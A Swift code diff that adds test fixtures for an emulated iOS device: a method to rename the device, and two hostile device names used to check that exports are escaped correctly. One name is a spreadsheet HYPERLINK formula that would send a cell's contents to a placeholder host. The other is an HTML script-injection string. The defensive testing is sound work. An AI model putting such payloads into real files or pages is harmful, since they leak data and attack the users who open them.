@@ -27,6 +27,20 @@ public struct EmulatedDeviceSpec: Sendable, Hashable {
             osVersion: osVersion)
     }
 
+    /// Device names that attack the exports (users set device names, and lockdown reports them verbatim):
+    /// a spreadsheet formula, and HTML markup with quotes, an ampersand and a comma.
+    public static let hostileNames = [
+        "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Open me\")",
+        "<script>alert(\"pwned\")</script> & \"Bob's\", <b>iPhone</b>",
+    ]
+
+    /// The same device under another name (`DeviceName`).
+    public func named(_ name: String) -> EmulatedDeviceSpec {
+        var copy = self
+        copy.name = name
+        return copy
+    }
+
     /// The device as the core model sees it.
     public var info: DeviceInfo {
         DeviceInfo(udid: udid, name: name, productType: productType, osVersion: osVersion, buildVersion: buildVersion)
